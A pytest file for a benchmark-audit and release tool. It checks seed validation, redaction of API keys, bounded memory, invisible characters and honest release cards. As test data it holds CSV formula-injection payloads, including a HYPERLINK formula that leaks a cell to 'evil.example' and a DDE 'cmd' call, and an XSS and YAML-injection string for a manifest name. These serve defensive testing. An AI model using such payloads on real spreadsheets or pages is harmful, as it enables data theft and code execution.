"""Issue 33, hostile inputs round 5 (part a): wrong claims in a release or report, injection into the
release card and the CSVs, a key leaked by a Label Studio error, seeds out of range, an unbounded
back-translation, the cross-lingual step's memory and invisible format characters. Each test fails on
the code before its fix."""

from __future__ import annotations

import csv
import json
import re
import threading
import time
import tracemalloc
from pathlib import Path
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import numpy as np
import pandas as pd
import pytest
import yaml
from conftest import write_review_files
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from bbsard_audit.app.cli import app
from bbsard_audit.audit import crosslingual
from bbsard_audit.audit.backtranslation import FileTranslator
from bbsard_audit.audit.checks.base import Check
from bbsard_audit.audit.crosslingual import margin_scores
from bbsard_audit.audit.signals import Batch
from bbsard_audit.base.contracts.table import Column, TableSpec
from bbsard_audit.base.dataset import load_dataset
from bbsard_audit.base.io import write_csv
from bbsard_audit.base.languages import BBSARD
from bbsard_audit.base.redact import redact, remember_secret, secrets_scope

runner = CliRunner()


def invoke(*args):
    return runner.invoke(app, [str(a) for a in args])


# ------------------------------------------------------------------ seeds: checked as parsed, before any work

@pytest.mark.parametrize("command", [
    ["audit", "--dataset", "sample", "--out", "{out}"],
    ["audit", "selftest", "--dataset", "sample", "--out", "{out}"],
    ["annotate", "push", "--campaign", "{out}", "--project", "p"],
    ["annotate", "estimate", "--audit", "a.csv", "--out", "{out}/e.json"],
    ["annotate", "agreement", "--raw", "r.csv", "--out", "{out}"],
    ["eval", "--dataset", "sample", "--out", "{out}"],
    ["campaign", "simulate", "--oracle", "v.csv", "--out", "{out}"],
])
@pytest.mark.parametrize("seed", ["-1", str(2**32)])
def test_a_seed_out_of_range_is_one_line_before_any_work(tmp_path, command, seed):
    out = tmp_path / "out"
    res = invoke(*[a.format(out=out) for a in command], "--seed", seed)
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert "--seed must be an integer from 0 to 4,294,967,295" in res.output and "Traceback" not in res.output
    assert not out.exists()


def test_the_last_seed_of_a_simulation_is_checked_too(tmp_path):
    res = invoke("campaign", "simulate", "--oracle", "v.csv", "--seed", 2**32 - 1, "--seeds", 2, "--out", tmp_path / "o")
    assert res.exit_code == 2 and "up to 4294967296" in res.output and not (tmp_path / "o").exists()


# ------------------------------------------------------------------ a key quoted by Label Studio's error body

KEY = "Kq7mZ2xWv9LpR4tN"  # no "token"/"bearer" before it in the body: only the key's own value gives it away


class _QuotesTheKey(BaseHTTPRequestHandler):
    """A server that rejects every request with a body quoting the key it received (as some proxies do)."""

    def log_message(self, *args):
        pass

    def _reject(self):
        key = self.headers.get("Authorization", "").split()[-1]
        body = json.dumps({"detail": f"API key '{key}' is not valid for this instance (key {key[:9]}…)"}).encode()
        self.send_response(401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PATCH = _reject


@pytest.fixture
def key_quoting_server(monkeypatch, tmp_path):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _QuotesTheKey)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    (tmp_path / "config.toml").write_text("")
    monkeypatch.setenv("BBSARD_AUDIT_CONFIG", str(tmp_path / "config.toml"))
    monkeypatch.setenv("LABEL_STUDIO_URL", f"http://127.0.0.1:{server.server_address[1]}")
    monkeypatch.setenv("LABEL_STUDIO_API_KEY", KEY)
    yield
    server.shutdown()
    server.server_close()


def test_push_pull_and_status_never_print_a_key_the_server_quotes(key_quoting_server, tmp_path, toy_pairs):
    audit, queue = write_review_files(tmp_path / "run", toy_pairs, budget=8, control=8)
    for command in (["push", "--audit", audit, "--queue", queue, "--project", "p"],
                    ["pull", "--project", "p", "--out", tmp_path / "v" / "verdicts.csv"],
                    ["status", "--project", "p"]):
        res = invoke("annotate", *command, "--retries", 0, "--timeout", 5)
        assert res.exit_code == 2 and "rejected the API key (HTTP 401)" in res.output, res.output
        assert "is not valid" in res.output and "Traceback" not in res.output
        assert KEY not in res.output and KEY[:9] not in res.output, res.output
    assert not (tmp_path / "v").exists()


def test_redact_masks_a_remembered_secret_whatever_its_shape_until_the_command_ends():
    with secrets_scope():
        remember_secret("plainword-secret")
        assert redact("the server said: plainword-secret is wrong") == "the server said: *** is wrong"
        assert "plainword" not in redact("cut: plainword-sec")
    assert redact("plainword-secret") == "plainword-secret"  # the next command (or a library caller) starts clean


# ------------------------------------------------------------------ the cross-lingual step in bounded memory

def _unit_rows(rng, n, d):
    rows = rng.normal(size=(n, d)).astype(np.float32)
    return rows / np.linalg.norm(rows, axis=1, keepdims=True)


def test_margin_scores_by_blocks_are_the_whole_matrix_results_in_bounded_memory(monkeypatch):
    rng = np.random.default_rng(0)
    n = 3000
    src = _unit_rows(rng, n, 16)
    tgt = _unit_rows(rng, n, 16) * 0.3 + src
    tgt /= np.linalg.norm(tgt, axis=1, keepdims=True)
    groups, reference = np.arange(n) // 3, rng.random(n) < 0.8
    whole = margin_scores(src, tgt, groups=groups, reference=reference)
    monkeypatch.setattr(crosslingual, "BLOCK_CELLS", 50_000)  # 20 rows a block
    tracemalloc.start()
    blocks = margin_scores(src, tgt, groups=groups, reference=reference)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert all(np.array_equal(a, b) for a, b in zip(whole, blocks))
    assert peak < 3_000_000, peak  # n x n would be 36 MB per float32 matrix (9 MB as booleans)


# ------------------------------------------------------------------ invisible format characters

def _real_pairs_with(data: Path, word: str, n: int = 10) -> tuple[list[str], list[str]]:
    fr, nl = (pd.read_csv(data / f"questions_{lang}_test.csv").set_index("id")["question"] for lang in ("fr", "nl"))
    ids = [i for i in nl.index if word in nl[i]][:n]
    return [fr[i] for i in ids], [nl[i] for i in ids]


def test_an_invisible_character_inside_a_real_word_changes_no_check(shared_dir, embedding_cache):
    """The real bBSARD questions with a correct "verhuurder" (landlord); a soft hyphen inside it split it
    into "ver" + "huurder" (tenant): a role swap, p_error 0.033 -> 0.982. Other invisible characters
    (zero-width space / joiner, BOM, word joiner) anywhere must not change a check either."""
    source, target = _real_pairs_with(shared_dir, "verhuurder")
    assert len(source) >= 5
    hidden = ["\ufeff" + t.replace("verhuurder", "ver\u00adhuurder").replace("de ", "d\u200be ", 1)
              .replace("?", "\u2060?") for t in target]
    assert all(h != t for h, t in zip(hidden, target))
    for check in Check.registered():
        plain = check().score(Batch(source, target, pair=BBSARD))
        marked = check().score(Batch(source, hidden, pair=BBSARD))
        assert [[f.flag for f in row] for row in marked.findings] == [[f.flag for f in row] for row in plain.findings], \
            check.name
        pd.testing.assert_frame_equal(marked.columns, plain.columns)
        for text, row in zip(hidden, marked.findings):  # evidence still quotes the text as stored
            for span in (s for f in row for s in f.spans if s.side == "target"):
                assert text[span.start:span.end] == span.text


# ------------------------------------------------------------------ formula cells in every CSV the tool writes

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=already quoted"]


def _live(cell: str) -> bool:
    """What a spreadsheet would run: a formula start that is not a plain number."""
    return cell[:1] != "" and cell[:1] in "=+-@\t\r" and not re.fullmatch(r"[-+]?[0-9]+(\.[0-9]*)?([eE][-+]?[0-9]+)?", cell)


def test_the_corpus_review_queue_holds_no_live_formula(tmp_path):
    from corpus_toy import beir_side

    docs = [{"_id": f"d{i}", "title": "", "text": f"Article {i}: the tenant pays {i} euros. " * 3} for i in range(60)]
    bad = [{"_id": f"d{i}", "title": "", "text": FORMULAS[i % len(FORMULAS)]} for i in range(60)]
    beir_side(tmp_path / "c" / "en", docs)
    beir_side(tmp_path / "c" / "nl", bad)
    manifest = tmp_path / "c" / "corpus.yaml"
    manifest.write_text("name: formulas\nsource: {path: en, lang: en, format: beir}\n"
                        "target: {path: nl, lang: nl, format: beir}\n")
    res = invoke("audit", "corpus", "--dataset", manifest, "--out", tmp_path / "out", "--review-budget", 60,
                 "--control", 0)
    assert res.exit_code == 0, res.output
    with open(tmp_path / "out" / "corpus_review_queue.csv", newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    excerpts = [c for c in cells if any(c.lstrip("'").startswith(x[:4]) for x in FORMULAS)]
    assert len({c[:3] for c in excerpts}) >= 5 and not [c for c in cells if _live(c)], excerpts


def test_write_csv_shields_cells_and_names_and_the_readers_get_the_texts_back(tmp_path):
    frame = pd.DataFrame({"id": range(len(FORMULAS)), "=name": FORMULAS, "n": [-3, 1.5, 0, 2, 7, -1, 4]})
    path = write_csv(tmp_path / "t.csv", frame)
    with open(path, newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if _live(c)] and "-3.0" in cells  # numbers stay numbers
    back = TableSpec("t.csv", (Column("id", "any"),)).read(path)  # no sidecar: the tool's own file
    assert list(back.columns) == ["id", "=name", "n"] and list(back["=name"]) == FORMULAS


# ------------------------------------------------------------------ the release card names what it releases, safely

def _en_nl_release(tmp_path, name: str, extra: str = ""):
    from test_hostile_data import padded_benchmark

    manifest = padded_benchmark(tmp_path / "b")
    manifest.write_text(f"name: {json.dumps(name)}\nsource: {{path: en, lang: en, format: beir}}\n"
                        f"target: {{path: nl, lang: nl, format: beir}}\n{extra}", encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    pd.DataFrame({"id": ["001", "002"], "verdict": ["correct", "correct"], "corrected_nl": ["", ""]}).to_csv(
        work / "verdicts.csv", index=False)
    res = invoke("release", "--dataset", manifest, "--verdicts", work / "verdicts.csv", "--out", tmp_path / "rel")
    assert res.exit_code == 0, res.output
    card = (tmp_path / "rel" / "README.md").read_text(encoding="utf-8")
    front, body = card.split("---\n")[1], card.split("---\n", 2)[2]
    return yaml.safe_load(front), body


def test_the_card_of_an_english_dutch_benchmark_names_it_and_claims_no_bsard_licence_or_citation(tmp_path):
    front, body = _en_nl_release(tmp_path, "padded-scifact")
    assert front["license"] == "unknown" and front["pretty_name"] == "padded-scifact (expert-verified Dutch)"
    assert "bBSARD" not in body and "BSARD" not in body and "lotfi" not in body and "CC BY-NC-SA" not in body
    assert "# padded-scifact with expert-verified Dutch questions" in body
    assert "the dataset's manifest names no licence" in body and "the dataset's manifest gives no citation" in body
    assert "English questions with their Dutch translations" in body


def test_a_manifest_licence_and_citation_are_quoted_and_a_bad_licence_is_one_line(tmp_path):
    cite = "@misc{x, title = {A ```fenced``` title}}"
    front, body = _en_nl_release(tmp_path, "padded", f"license: cc-by-4.0\ncitation: {json.dumps(cite)}\n")
    assert front["license"] == "cc-by-4.0" and "`cc-by-4.0`, as recorded in the dataset's manifest" in body
    assert "````bibtex\n" + cite + "\n````" in body
    manifest = tmp_path / "b" / "padded.yaml"
    manifest.write_text(manifest.read_text().replace("cc-by-4.0", "'mit\\nlicense: x'"))
    res = invoke("validate", "--dataset", manifest)
    assert res.exit_code != 0 and "license: must be a licence identifier" in res.output


HOSTILE_NAME = "x` <img src=x onerror=alert(1)> [click](javascript:alert(1)) `\nlicense: cc0-1.0\n# H"


def test_a_hostile_manifest_name_stays_text_in_the_card_yaml_markdown_and_html(tmp_path):
    front, body = _en_nl_release(tmp_path, HOSTILE_NAME)
    assert front["license"] == "unknown" and set(front) >= {"license", "pretty_name", "configs"}
    assert front["pretty_name"].startswith(HOSTILE_NAME.strip())  # read back as written, one scalar
    rendered = MarkdownIt("commonmark").render(body)
    assert "<img" not in rendered and 'href="javascript' not in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered.replace("&amp;lt;", "&lt;").replace("&amp;gt;", "&gt;")
    assert not [line for line in body.splitlines() if line.startswith("license:") or line == "# H"]


# ------------------------------------------------------------------ a back-translation is bounded as read

def test_a_huge_back_translation_is_one_line_naming_file_row_and_id_before_any_work(tmp_path):
    pairs = load_dataset("sample").pairs
    bt = tmp_path / "bt.jsonl"
    rows = [{"id": p.id, "backtranslation": p.source} for p in pairs]
    rows[3]["backtranslation"] = "Le locataire doit-il payer ? " * 32_000  # 0.9 MB
    bt.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    started = time.monotonic()
    res = invoke("audit", "--dataset", "sample", "--backtranslations", bt, "--out", tmp_path / "out")
    assert res.exit_code == 2 and res.output.strip().count("\n") == 0, res.output
    assert "bt.jsonl" in res.output and "row 4" in res.output and f"id {pairs[3].id}" in res.output
    assert "back-translation of 928,000 characters is longer than --max-question-chars 20,000" in res.output
    assert time.monotonic() - started < 30 and not (tmp_path / "out").exists()
    # raised for a benchmark whose back-translations are long, the same file is read
    assert FileTranslator(bt, max_chars=10**6).texts[pairs[3].id].startswith("Le locataire")


# ------------------------------------------------------------------ a release claims only what the experts checked

def test_questions_retranslated_since_the_review_are_released_unverified_not_expert_verified(tmp_path):
    from release_fixtures import NL, make_dataset, write_review

    src = make_dataset(tmp_path / "src")
    verdicts = write_review(tmp_path / "work")
    for split in ("train", "test"):  # every Dutch question re-translated after the experts' review
        path = src / f"questions_nl_{split}.csv"
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        frame["question"] = "Opnieuw vertaald: " + frame["question"]
        frame.to_csv(path, index=False)
    res = invoke("release", "--dataset", src, "--verdicts", verdicts, "--audit", tmp_path / "work" / "audit.csv",
                 "--out", tmp_path / "rel")
    assert res.exit_code == 0, res.output
    assert "6 verdict(s) were given on another Dutch text than the dataset's" in res.output
    card = (tmp_path / "rel" / "README.md").read_text()
    assert "pretty_name: bBSARD (Dutch not expert-verified)" in card and "with expert-verified" not in card
    shipped = pd.read_csv(tmp_path / "rel" / "questions_nl_test.csv")
    assert set(shipped["verification"]) <= {"unverified", "flagged-unverified"} and len(shipped) == 5
    # a correction the dataset took over since is the experts' own text: still corrected
    assert NL[3] != "Opnieuw vertaald: " + NL[3]


def test_a_release_with_every_pair_removed_is_refused_not_titled_expert_verified(tmp_path):
    from release_fixtures import make_dataset

    src = make_dataset(tmp_path / "src")
    (tmp_path / "work").mkdir()
    pd.DataFrame({"id": range(1, 9), "verdict": "legal", "corrected_nl": ""}).to_csv(
        tmp_path / "work" / "verdicts.csv", index=False)
    res = invoke("release", "--dataset", src, "--verdicts", tmp_path / "work" / "verdicts.csv", "--out", tmp_path / "rel")
    assert res.exit_code == 2 and "every pair (8) was judged legally inaccurate" in res.output
    assert not (tmp_path / "rel").exists()
    res = invoke("release", "--dataset", src, "--verdicts", tmp_path / "work" / "verdicts.csv", "--out",
                 tmp_path / "rel", "--policy", "keep-marked")
    assert res.exit_code == 0, res.output
    card = (tmp_path / "rel" / "README.md").read_text()
    assert "pretty_name: bBSARD (Dutch not expert-verified)" in card and "expert-verified Dutch" not in card


def test_a_report_counts_only_verdicts_on_pairs_of_its_audit_and_says_how_many_it_left_out(tmp_path):
    from report_fixtures import write_workdir

    from bbsard_audit.app.report import build_report

    wd = write_workdir(tmp_path)
    audit = pd.read_csv(wd / "audit.csv")
    verdicts = pd.read_csv(wd / "verdicts.csv", keep_default_na=False)
    base = int(verdicts["verdict"].ne("").sum())
    others = pd.DataFrame({"id": range(90_001, 90_029), "verdict": "legal", "corrected_nl": "", "gold_labels_apply": "",
                           "n_annotations": 2, "annotators": "anna;bart", "agreement_status": "agreed"})
    assert not others["id"].isin(audit["id"]).any()
    pd.concat([verdicts, others]).to_csv(wd / "verdicts.csv", index=False)  # 28 verdicts of a bigger audit
    (wd / "verdicts.meta.json").unlink(missing_ok=True)
    md = build_report(wd).markdown.read_text()
    assert f"- **pairs reviewed**: {base} (28 verdict(s) on pairs not in this audit not counted)" in md
    assert f"of the {base} reviewed pairs" in md and f"of the {base + 28} reviewed" not in md
